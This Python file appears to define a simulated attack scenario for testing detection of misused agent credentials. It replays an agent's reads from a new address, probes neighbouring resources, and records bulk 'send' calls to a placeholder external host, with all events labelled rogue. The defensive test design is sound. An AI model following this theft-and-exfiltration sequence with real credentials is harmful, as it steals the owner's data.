"""Somebody else uses an agent's credential, from an address of their own."""

from .case import Case
from .stage import Stage


class StolenCredential(Case):
    """The thief looks around among the agent's own targets, then takes what is there.

    The calls name the agent, but come from a new address, by no known model.
    """

    name = "stolen-credential"
    title = "a stolen credential is used from a new address"
    needs = ("read", "send")
    never = ("delete",)

    def play(self, stage: Stage) -> None:
        player, rng = stage.player, stage.rng
        player.become(
            source_ip=f"203.0.113.{rng.randint(2, 250)}",
            session_id=stage.hexadecimal(12),
            agent_version=None,
            model=None,
        )
        for past in player.past("read")[-12:]:
            player.again(past, player.soon(), is_rogue=True)
        for past in player.past("read")[-6:]:
            target = f"{(past.resource or 'store').rpartition('/')[0]}/{stage.hexadecimal()}"
            player.again(past, player.soon(), is_rogue=True, resource=target)
        for _ in range(3):
            player.call(
                player.tool("send", "http_post"),
                "send",
                f"https://files-{stage.hexadecimal()}.example/in",
                player.soon(),
                n_bytes=rng.randint(200_000, 900_000),
            )
